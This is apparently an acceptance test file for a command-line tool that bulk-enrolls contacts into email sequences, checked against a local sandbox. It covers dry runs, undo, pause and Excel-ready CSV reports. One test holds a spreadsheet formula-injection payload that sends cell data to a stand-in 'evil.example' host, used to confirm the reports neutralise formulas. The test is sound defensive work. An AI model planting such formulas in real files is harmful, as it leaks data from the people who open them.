"""Issue 24 acceptance: campaigns an operations person can preview, undo, pause and open in
Excel. Each check is a real `python -m sequence_clients.cli` process against a sandbox on
loopback; the sandbox's own counters (requests by method, creations, cancels per enrollment)
say what reached the vendor."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import resource
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from clihelp import People, opening

from sequence_clients import UnifyClient
from sequence_clients.cli.messages import count
from sequence_clients.sandbox import Sandbox, SandboxConfig

CLI = [sys.executable, "-m", "sequence_clients.cli"]
# The size: a 5,000-row campaign is refused with another sequence and then undone in one
# process (about 4 s each way on the aiohttp transport against the unthrottled sandbox). The
# kill -9 test undoes 400 at 100/s, so that the kill lands half-way.
CAMPAIGN = 5_000
CONCURRENCY = 16
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox(SandboxConfig(seed=24, rate_limit=None, people=8_000)) as running:
        yield running


@pytest.fixture(scope="module")
def people(sandbox: Sandbox) -> People:
    return People(sandbox, free=7_900)


@pytest.fixture(scope="module")
def sequences(sandbox: Sandbox) -> list[str]:
    """Two live sequences without active enrollments; tests enroll people of their own."""
    state = sandbox.unify
    return [
        str(s["id"]) for s in state.live_sequences() if state.active_enrollment_count(s["id"]) == 0
    ][:2]


def env_of(sandbox: Sandbox) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("UNIFY_", "BOAST_"))}
    return {
        **env,
        "UNIFY_API_KEY": sandbox.unify_api_key,
        "UNIFY_BASE_URL": sandbox.unify_base_url,
        "COLUMNS": "200",
    }


def write_rows(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def enroll_command(sandbox: Sandbox, path: Path, sequence: str, *extra: str) -> list[str]:
    mailbox = sandbox.unify.mailboxes[0]["email"]
    return [
        *CLI, "bulk-enroll", "unify", str(path), "--sequence", sequence, "--mailbox", mailbox,
        "--concurrency", str(CONCURRENCY), *extra,
    ]  # fmt: skip


def run(
    command: list[str], env: dict[str, str], **options: object
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(  # type: ignore[call-overload,no-any-return]
        command, env=env, capture_output=True, text=True, timeout=120, **options
    )


def read_report(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        first = handle.readline()
        handle.seek(0)
        delimiter = ";" if first.count(";") > first.count(",") else ","
        return list(csv.DictReader(handle, delimiter=delimiter))


def writes(sandbox: Sandbox) -> int:
    """Vendor requests that could change something (anything but GET), so far."""
    methods = sandbox.stats.unify.methods
    return sum(n for method, n in methods.items() if method != "GET")


def is_active(sandbox: Sandbox, person: str, sequence: str) -> bool:
    record = sandbox.unify.active_enrollment_of(person)
    return record is not None and record.sequence_id == sequence


def journal_states(journal: Path) -> dict[str, int]:
    with sqlite3.connect(journal) as db:
        return dict(db.execute("SELECT state, COUNT(*) FROM rows GROUP BY state"))


# --- one campaign, one journal; undo at the vendor's pace ----------------------------------------


def test_another_sequence_is_refused_the_report_keeps_saying_enrolled_and_undo_takes_them_all_back(
    sandbox: Sandbox, sequences: list[str], people: People, tmp_path: Path
) -> None:
    ids = people.take(CAMPAIGN)
    path = write_rows(tmp_path / "campaign.csv", ["person_id"], [[p] for p in ids])
    env = env_of(sandbox)
    first = run([*enroll_command(sandbox, path, sequences[0]), "--json"], env)
    assert first.returncode == 0, first.stderr
    assert json.loads(first.stdout)["counts"] == {"enrolled": CAMPAIGN}
    report_before = (tmp_path / "campaign.report.csv").read_bytes()

    sent = writes(sandbox)
    other = run(enroll_command(sandbox, path, sequences[1]), env)
    assert other.returncode == 2, other.stderr
    assert "--new-campaign" in other.stderr and sequences[1] in other.stderr
    without_mailbox = run(
        [*CLI, "bulk-enroll", "unify", str(path), "--sequence", sequences[0]], env
    )
    assert without_mailbox.returncode == 2  # a setting missing, not 5,000 bad rows
    assert writes(sandbox) == sent  # neither sent anything
    assert (tmp_path / "campaign.report.csv").read_bytes() == report_before
    again = run([*CLI, "bulk-report", str(path), "--json"], env)
    assert json.loads(again.stdout)["counts"] == {"enrolled": CAMPAIGN}

    started = time.monotonic()
    undo = run([*CLI, "bulk-undo", "unify", str(path), "--json"], env)
    elapsed = time.monotonic() - started
    assert undo.returncode == 0, undo.stderr
    assert json.loads(undo.stdout)["counts"] == {"undone": CAMPAIGN}
    assert writes(sandbox) - sent == CAMPAIGN  # one DELETE each, from one process
    assert not any(is_active(sandbox, p, sequences[0]) for p in ids)
    assert elapsed < 30, f"{CAMPAIGN} cancels took {elapsed:.0f} s"
    assert {r["outcome"] for r in read_report(tmp_path / "campaign.report.csv")} == {"undone"}


def test_new_campaign_sets_the_old_journal_aside(
    sandbox: Sandbox, sequences: list[str], people: People, tmp_path: Path
) -> None:
    ids = people.take(20)
    path = write_rows(tmp_path / "c.csv", ["person_id"], [[p] for p in ids[:10]])
    env = env_of(sandbox)
    assert (
        run(enroll_command(sandbox, path, sequences[0], "--rate-limit", "1000/s"), env).returncode
        == 0
    )
    path = write_rows(tmp_path / "c.csv", ["person_id"], [[p] for p in ids[10:]])
    result = run([*enroll_command(sandbox, path, sequences[1], "--new-campaign"), "--json"], env)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["counts"] == {"enrolled": 10}
    aside = [p for p in tmp_path.glob("c.csv.journal.*.sqlite")]
    assert len(aside) == 1 and journal_states(aside[0]) == {"enrolled": 10}
    assert all(is_active(sandbox, p, sequences[1]) for p in ids[10:])


# --- dry run -------------------------------------------------------------------------------------


def test_dry_run_previews_a_file_with_bad_rows_and_sends_no_write(
    sandbox: Sandbox, sequences: list[str], people: People, tmp_path: Path
) -> None:
    ids = people.take(30)
    rows = [[p, "ok"] for p in ids] + [["not-a-uuid", "typo"], [ids[0], "twice"], ["", "empty"]]
    path = write_rows(tmp_path / "preview.csv", ["person_id", "note"], rows)
    env = env_of(sandbox)
    requests, sent = sandbox.stats.unify.requests, writes(sandbox)
    for flag in ("--dry-run", "-n"):
        result = run(enroll_command(sandbox, path, sequences[0], flag), env)
        assert result.returncode == 1, result.stderr  # invalid rows: the run would end with 1
        assert "Traceback" not in result.stderr
        assert opening("dry_run_would_send", rows=count(30, "row")) in result.stdout
        assert opening("dry_run_duplicates", rows=count(1, "row")) in result.stdout
        assert opening("dry_run_invalid", rows=count(2, "row")) in result.stdout
        assert "not-a-uuid" in result.stdout
    assert writes(sandbox) == sent
    assert sandbox.stats.unify.requests > requests  # the preflight did ask (reads)
    assert not (tmp_path / "preview.csv.journal.sqlite").exists()
    assert not any(is_active(sandbox, p, sequences[0]) for p in ids)

    no_mailbox = run(
        [*CLI, "bulk-enroll", "unify", str(path), "--sequence", sequences[0], "--dry-run"], env
    )
    assert no_mailbox.returncode == 2


# --- undo: exactly the campaign's enrollments ----------------------------------------------------


def test_undo_removes_exactly_what_the_campaign_enrolled_and_survives_kill_9(
    sandbox: Sandbox, sequences: list[str], people: People, tmp_path: Path
) -> None:
    sequence = sequences[1]
    before, fresh = people.take(100), people.take(400)
    mailbox = sandbox.unify.mailboxes[0]["email"]
    with UnifyClient(sandbox.unify_api_key, base_url=sandbox.unify_base_url) as unify:
        for person in before:
            unify.enroll(sequence, person, mailbox_emails=[mailbox])
    path = write_rows(tmp_path / "mixed.csv", ["person_id"], [[p] for p in before + fresh])
    env = env_of(sandbox)
    enrolled = run([*enroll_command(sandbox, path, sequence), "--json"], env)
    assert json.loads(enrolled.stdout)["counts"] == {"enrolled": 400, "already_enrolled": 100}

    ours = {
        e.id for e in sandbox.unify.enrollments.values() if e.person_id in set(fresh) and e.active
    }
    journal = tmp_path / "mixed.csv.journal.sqlite"
    undo = [*CLI, "bulk-undo", "unify", str(path), "--rate-limit", "100/s", "--json"]
    process = subprocess.Popen(undo, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while journal_states(journal).get("undone", 0) < 100:
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.01)
    process.send_signal(signal.SIGKILL)
    process.communicate()
    assert 0 < journal_states(journal).get("undone", 0) < 400

    finished = run(undo, env)
    assert finished.returncode == 0, finished.stderr
    counts = json.loads(finished.stdout)["counts"]
    assert counts == {"undone": 400, "already_enrolled": 100}
    calls = sandbox.unify.cancel_calls
    assert {eid for eid in calls if eid in ours} == ours  # none missed
    assert max(calls[eid] for eid in ours) == 1  # none cancelled twice
    assert not any(is_active(sandbox, p, sequence) for p in fresh)
    assert all(is_active(sandbox, p, sequence) for p in before)  # the 100 untouched
    report = read_report(tmp_path / "mixed.report.csv")
    assert {r["outcome"] for r in report if r["person_id"] in set(before)} == {"already_enrolled"}

    nothing = run(undo, env)  # undone stays undone: a third run sends nothing
    assert nothing.returncode == 0 and "nothing to undo" in nothing.stdout


def test_bulk_pause_and_resume_act_on_the_campaigns_enrollments(
    sandbox: Sandbox, sequences: list[str], people: People, tmp_path: Path
) -> None:
    ids = people.take(12)
    path = write_rows(tmp_path / "p.csv", ["person_id"], [[p] for p in ids])
    env = env_of(sandbox)
    assert run(enroll_command(sandbox, path, sequences[0]), env).returncode == 0
    paused = run([*CLI, "bulk-pause", "unify", str(path), "--output", "csv"], env)
    assert paused.returncode == 0, paused.stderr
    rows = list(csv.DictReader(paused.stdout.splitlines()))
    assert len(rows) == 12 and {r["outcome"] for r in rows} == {"paused"}
    assert all(sandbox.unify.active_enrollment_of(p).is_paused for p in ids)  # type: ignore[union-attr]
    resumed = run([*CLI, "bulk-resume", "unify", str(path), "--output", "json"], env)
    assert resumed.returncode == 0, resumed.stderr
    assert {r["outcome"] for r in json.loads(resumed.stdout)} == {"resumed"}
    assert not any(sandbox.unify.active_enrollment_of(p).is_paused for p in ids)  # type: ignore[union-attr]


def test_a_whole_sequence_pauses_and_resumes_from_the_cli(
    sandbox: Sandbox, sequences: list[str]
) -> None:
    env = env_of(sandbox)
    sequence = sandbox.unify.live_sequences()[-1]["id"]
    paused = run([*CLI, "unify", "pause-sequence", sequence, "--json"], env)
    assert paused.returncode == 0, paused.stderr
    assert sandbox.unify.sequence(sequence)["is_paused"] is True  # type: ignore[index]
    listed = run([*CLI, "unify", "sequences", "--output", "csv"], env)
    rows = {r["id"]: r for r in csv.DictReader(listed.stdout.splitlines())}
    assert rows[sequence]["paused"] == "True"
    resumed = run([*CLI, "unify", "resume-sequence", sequence], env)
    assert resumed.returncode == 0, resumed.stderr
    assert sandbox.unify.sequence(sequence)["is_paused"] is False  # type: ignore[index]


# --- files made for Excel ------------------------------------------------------------------------


def test_a_semicolon_bom_crlf_export_gives_the_same_files_with_names_and_no_live_formula(
    sandbox: Sandbox, sequences: list[str], people: People, tmp_path: Path
) -> None:
    ids = people.take(4)
    header = ["First Name", "Last Name", "Company", "Email", "Person ID", "Sender Email"]
    sender = sandbox.unify.mailboxes[0]["email"]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [
        ["José", "Núñez", "Café SA", "jose@example.com", ids[0], sender],
        ["Ann", "Lee", formula, "ann@example.com", ids[1], sender],
        ["Bob", "Ray", "+1 555", "bob@example.com", formula, sender],  # an invalid row
        ["Eve", "Moe", "@SUM(A1)", "eve@example.com", ids[2], "-not-an-email"],
    ]
    text = io.StringIO()
    csv.writer(text, delimiter=";", lineterminator="\r\n").writerows([header, *rows])
    path = tmp_path / "crm.csv"
    path.write_bytes(codecs.BOM_UTF8 + text.getvalue().encode("utf-8"))
    result = run(
        [*CLI, "bulk-enroll", "unify", str(path), "--sequence", sequences[0]], env_of(sandbox)
    )
    assert result.returncode == 1, result.stderr  # two invalid rows
    assert "1 row " in result.stdout or "2 rows" in result.stdout
    assert "1 rows" not in result.stdout + result.stderr

    outputs = [tmp_path / "crm.report.csv", tmp_path / "crm.failed.csv"]
    assert not (tmp_path / "crm.csv.report.csv").exists()
    for output in outputs:
        raw = output.read_bytes()
        assert raw.startswith(codecs.BOM_UTF8), output
        assert raw.count(b"\r\n") == raw.count(b"\n"), output  # every line ends CRLF
        text = raw.decode("utf-8-sig")
        assert ";" in text.splitlines()[0] and "," not in text.splitlines()[0]
        for record in csv.reader(text.splitlines(), delimiter=";"):
            for cell in record:
                assert not cell.startswith(FORMULA_STARTS), (output, cell)
    report = read_report(outputs[0])
    assert [r["First Name"] for r in report] == ["José", "Ann", "Bob", "Eve"]
    assert {"Last Name", "Company", "Email"} <= set(report[0])
    assert report[0]["outcome"] == "enrolled" and report[1]["Company"] == "'" + formula
    failed = read_report(outputs[1])
    assert [r["First Name"] for r in failed] == ["Bob", "Eve"]
    assert failed[0]["Person ID"] == "'" + formula


def test_list_csv_neutralises_formulas(sandbox: Sandbox) -> None:
    from sequence_clients.bulk.report import safe_cell

    for start in FORMULA_STARTS:
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("José") == "José" and safe_cell("") == ""


# --- honest endings ------------------------------------------------------------------------------


def limited_writes(limit: int) -> None:
    """In the child: files may grow to `limit` bytes; past it writes fail with EFBIG."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))


def test_disk_full_mid_run_names_the_file_and_the_rerun_enrolls_nobody_twice(
    sandbox: Sandbox, sequences: list[str], people: People, tmp_path: Path
) -> None:
    ids = people.take(600)
    path = write_rows(tmp_path / "full.csv", ["person_id"], [[p] for p in ids])
    env = env_of(sandbox)
    command = enroll_command(sandbox, path, sequences[0])
    created = sandbox.unify.total_created
    full = run(command, env, preexec_fn=lambda: limited_writes(100_000))
    assert full.returncode not in (0, 130), full.stderr
    assert "Traceback" not in full.stderr
    assert "could not write" in full.stderr and "full.csv.journal.sqlite" in full.stderr
    assert "cover every row" not in full.stderr + full.stdout
    assert 0 < sandbox.unify.total_created - created < 600  # it stopped mid-run

    again = run([*command, "--json"], env)
    assert again.returncode == 0, again.stderr
    assert json.loads(again.stdout)["counts"] == {"enrolled": 600}
    assert sandbox.unify.total_created - created == 600  # nobody enrolled twice
    assert sandbox.unify.duplicate_active_enrollments() == []


def test_an_unwritable_report_is_said_and_exits_non_zero(
    sandbox: Sandbox, sequences: list[str], people: People, tmp_path: Path
) -> None:
    ids = people.take(3)
    path = write_rows(tmp_path / "ro.csv", ["person_id"], [[p] for p in ids])
    (tmp_path / "not-a-folder").write_text("")  # a file where the report's folder should be
    report = tmp_path / "not-a-folder" / "ro.report.csv"
    command = [*enroll_command(sandbox, path, sequences[0]), "--report", str(report)]
    result = run(command, env_of(sandbox))
    assert result.returncode == 1, result.stderr
    assert opening("report_not_written", path=report) in result.stderr
    assert "Report:" not in result.stdout  # no message claims the file
    assert all(is_active(sandbox, p, sequences[0]) for p in ids)
    assert (tmp_path / "ro.failed.csv").exists() is False  # neither file half-replaced
